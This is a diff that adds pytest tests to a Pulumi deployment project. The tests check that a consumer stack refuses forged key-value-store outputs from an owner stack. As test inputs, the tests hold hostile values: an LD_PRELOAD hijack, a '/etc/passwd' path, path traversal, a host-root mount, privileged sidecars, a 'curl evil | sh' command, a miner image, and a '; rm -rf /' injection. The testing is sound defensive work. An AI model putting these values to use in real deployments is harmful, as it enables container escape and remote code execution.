@@ -196,3 +196,145 @@ def test_user_errors_raised_inside_an_apply_become_run_errors():
     with pytest.raises(pulumi.RunError, match="^motor_scripts_dir is unset$"):
         user_errors_as_run_errors(refuse)
     assert user_errors_as_run_errors(lambda value: value * 2, 21) == 42
+
+
+# --- a forged or compromised owner: its output is data, checked field by field (components/kv_store/contract.py) ---
+
+
+def forged(provider_outputs: dict, change) -> str:
+    outputs = copy.deepcopy(provider_outputs)
+    change(outputs["kv_store"])
+    return failure(outputs)
+
+
+def test_forged_engine_env_is_refused_naming_the_owner_and_field(provider_outputs):
+    message = forged(provider_outputs, lambda kv: kv["engine_env"].update(LD_PRELOAD="/tmp/evil.so"))
+    assert message.splitlines()[1:] == [
+        f"  - {A}'s kv_store.engine_env.LD_PRELOAD: is not a variable a memcache store sets (it sets "
+        f"KVS_MASTER_SERVICE, KV_STORE_BACKEND, MMC_LOCAL_CONFIG_PATH, MMC_LOCAL_SERVICE_MODE)"
+    ]
+
+
+def test_forged_engine_env_value_is_refused(provider_outputs):
+    message = forged(provider_outputs, lambda kv: kv["engine_env"].update(MMC_LOCAL_CONFIG_PATH="/etc/passwd"))
+    assert message.splitlines()[1:] == [
+        f"  - {A}'s kv_store.engine_env.MMC_LOCAL_CONFIG_PATH: must be '/usr/local/Ascend/pyMotor/conf/mmc-local.conf', "
+        f"what kv_store.host and port give"
+    ]
+
+
+def test_forged_client_file_name_is_refused(provider_outputs):
+    message = forged(provider_outputs, lambda kv: kv["client_files"].update({"../../escape": "x"}))
+    assert message.splitlines()[1:] == [
+        f"  - {A}'s kv_store.client_files['../../escape']: is not a client file of a memcache store (mmc-local.conf)"
+    ]
+
+
+def test_forged_client_file_content_is_refused(provider_outputs):
+    def point_elsewhere(kv: dict) -> None:
+        kv["client_files"]["mmc-local.conf"] = kv["client_files"]["mmc-local.conf"].replace(
+            "tcp://mindie-motor-kvs-master.service-a.svc.cluster.local:50088", "tcp://evil.example:50088")
+
+    message = forged(provider_outputs, point_elsewhere)
+    assert message.splitlines()[1:] == [
+        f"  - {A}'s kv_store.client_files['mmc-local.conf'].ock.mmc.meta_service_url: must be "
+        f"tcp://mindie-motor-kvs-master.service-a.svc.cluster.local:50088 (kv_store.host and port)"
+    ]
+
+
+def test_forged_host_path_is_refused(provider_outputs):
+    message = forged(provider_outputs, lambda kv: kv.update(host_paths={"root": {"path": "/", "mount_path": "/host"}}))
+    assert message.splitlines()[1:] == [
+        f"  - {A}'s kv_store.host_paths: engines mount none for a memcache store; refusing any other host path"
+    ]
+
+
+def test_forged_sidecar_on_a_memcache_store_is_refused(provider_outputs):
+    privileged = {"name": "mooncake-store", "image": "evil/rootkit:1", "securityContext": {"privileged": True}}
+    message = forged(provider_outputs, lambda kv: kv.update(sidecars=[privileged]))
+    assert message.splitlines()[1:] == [
+        f"  - {A}'s kv_store.sidecars: only a Mooncake store runs a container beside the engines (one: "
+        f"mooncake-store); refusing 1 for a memcache store"
+    ]
+
+
+def test_forged_host_is_refused(provider_outputs):
+    message = forged(provider_outputs, lambda kv: kv.update(host="evil.example\n- name: x"))
+    assert message.splitlines()[1:] == [f"  - {A}'s kv_store.host: is not a DNS name"]
+
+
+@pytest.fixture(scope="module")
+def standalone_pair() -> tuple[dict, dict]:
+    provider, consumer = mooncake_pair(lease=11000)
+    provider["kv_cache_store_config"]["store_mode"] = "standalone"
+    consumer["kv_cache_store_config"]["store_mode"] = "standalone"
+    return render(provider, stack="service-a").run.outputs, consumer
+
+
+def consume_standalone(pair: tuple[dict, dict], change=None, **store):
+    outputs, consumer = copy.deepcopy(pair[0]), copy.deepcopy(pair[1])
+    consumer["kv_cache_store_config"].update(store)
+    if change:
+        change(outputs["kv_store"]["sidecars"][0])
+    return render(consumer, stack="service-b", stack_references={A: outputs})
+
+
+def standalone_failure(pair, change=None, **store) -> list[str]:
+    with pytest.raises(ProgramError) as caught:
+        consume_standalone(pair, change, **store)
+    return str(caught.value).splitlines()[1:]
+
+
+def test_the_standalone_store_is_rebuilt_by_the_consumer(standalone_pair):
+    rendered = consume_standalone(standalone_pair)
+    sidecar = rendered.container("Deployment", "vllm-p0", "mooncake-store")
+    assert sidecar["securityContext"] == {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}}
+    assert sidecar["image"] == stack_values("service-b")["motor_deploy_config"]["image_name"]
+
+
+def test_a_privileged_owner_sidecar_is_refused(standalone_pair):
+    def escalate(sidecar: dict) -> None:
+        sidecar["securityContext"] = {"privileged": True, "capabilities": {"add": ["SYS_ADMIN"]}}
+        sidecar["volumeMounts"] = [{"name": "host", "mountPath": "/host"}]
+
+    assert standalone_failure(standalone_pair, escalate) == [
+        f"  - {A}'s kv_store.sidecars[0].securityContext: differs from the standalone store container the consumer "
+        f"builds from the owner's data; an owner may not set it",
+        f"  - {A}'s kv_store.sidecars[0].volumeMounts: differs from the standalone store container the consumer "
+        f"builds from the owner's data; an owner may not set it",
+    ]
+
+
+def test_an_owner_sidecar_with_ld_preload_or_another_command_is_refused(standalone_pair):
+    def inject(sidecar: dict) -> None:
+        sidecar["env"].append({"name": "LD_PRELOAD", "value": "/tmp/evil.so"})
+        sidecar["command"] = ["/bin/sh", "-c", "curl evil | sh", "--port=0"]
+
+    assert standalone_failure(standalone_pair, inject) == [
+        f"  - {A}'s kv_store.sidecars[0].command: differs from the standalone store container the consumer builds "
+        f"from the owner's data; an owner may not set it",
+        f"  - {A}'s kv_store.sidecars[0].env.LD_PRELOAD: differs from the standalone store's own environment (only "
+        f"its segment size, protocol, device and metadata server come from the owner)",
+    ]
+
+
+def test_an_owner_sidecar_image_outside_the_consumers_allow_list_is_refused(standalone_pair):
+    def swap(sidecar: dict) -> None:
+        sidecar["image"] = "registry.evil/miner:1"
+
+    [line] = standalone_failure(standalone_pair, swap)
+    assert line.startswith(f"  - {A}'s kv_store.sidecars[0].image: 'registry.evil/miner:1' is not an image this "
+                           f"service allows in its engine pods (")
+    assert line.endswith("add it to kv_cache_store_config.allowed_sidecar_images if you trust it")
+    rendered = consume_standalone(standalone_pair, swap, allowed_sidecar_images=["registry.evil/miner:1"])
+    assert rendered.container("Deployment", "vllm-p0", "mooncake-store")["image"] == "registry.evil/miner:1"
+
+
+def test_an_owner_sidecar_with_a_bad_segment_size_is_refused(standalone_pair):
+    def bad_size(sidecar: dict) -> None:
+        for entry in sidecar["env"]:
+            if entry["name"] == "MOONCAKE_GLOBAL_SEGMENT_SIZE":
+                entry["value"] = "1GB; rm -rf /"
+
+    [line] = standalone_failure(standalone_pair, bad_size)
+    assert line.startswith(f"  - {A}'s kv_store.sidecars[0].env.MOONCAKE_GLOBAL_SEGMENT_SIZE: ")
